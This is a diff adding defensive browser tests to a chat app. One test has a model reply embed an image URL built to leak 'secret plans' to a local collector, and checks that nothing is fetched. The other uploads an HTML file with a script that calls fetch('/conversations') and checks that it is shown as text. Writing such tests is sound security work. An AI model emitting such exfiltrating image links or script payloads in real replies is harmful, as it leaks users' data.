@@ -74,3 +74,58 @@ async def test_without_the_markdown_libraries_a_reply_is_plain_escaped_text(page
     await expect(answer.locator(".answer")).to_have_text(reply)
     await expect(answer.locator(".answer b, .answer strong, .answer img")).to_have_count(0)
     await assert_nothing_ran(page, watch)
+
+
+async def test_an_image_from_elsewhere_in_a_reply_is_named_not_fetched(page, base_url, upstream, watch):
+    import http.server
+    import threading
+
+    fetched: list[str] = []
+
+    class Leak(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802 - the server's name for it
+            fetched.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    collector = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Leak)
+    threading.Thread(target=collector.serve_forever, daemon=True).start()
+    leak = f"http://127.0.0.1:{collector.server_address[1]}/leak?d=my-secret-plans"
+    upstream.enqueue(f"Here is a chart:\n\n![chart]({leak})\n\nand a [link]({leak}).")
+    await open_chat(page, base_url)
+
+    await send(page, "Draw my secret plans")
+
+    answer = await finished_answer(page)
+    image = answer.locator(".answer img")
+    await expect(image).to_have_attribute("alt", f"[image not loaded: {leak}]")
+    await expect(image).not_to_have_attribute("src", leak)
+    await page.reload()
+    await finished_answer(page)
+    await page.wait_for_timeout(500)
+    collector.shutdown()
+    assert fetched == []  # the link is there to click; nothing went out by itself
+
+
+async def test_an_uploaded_html_file_previewed_runs_no_script(page, base_url, watch):
+    import httpx
+
+    hostile = b"<html><body><script>document.title = 'pwned'; fetch('/conversations')</script>hello</body></html>"
+    async with httpx.AsyncClient(base_url=base_url) as http:
+        await http.post("/knowledge_bases", json={"name": "docs"})
+        await http.post("/knowledge_bases/docs/files", files=[("files", ("page.html", hostile))])
+        preview = await http.get(
+            "/knowledge_base/download_doc",
+            params={"knowledge_base_name": "docs", "file_name": "page.html", "preview": "true"},
+        )
+    assert preview.headers["x-content-type-options"] == "nosniff"
+    assert preview.headers["content-type"].startswith("text/plain")
+    assert "sandbox" in preview.headers["content-security-policy"]
+
+    await page.goto(f"{base_url}/knowledge_base/download_doc?knowledge_base_name=docs&file_name=page.html&preview=true")
+
+    await expect(page.locator("body")).to_contain_text("<script>")  # shown as the text it is
+    assert await page.title() != "pwned"
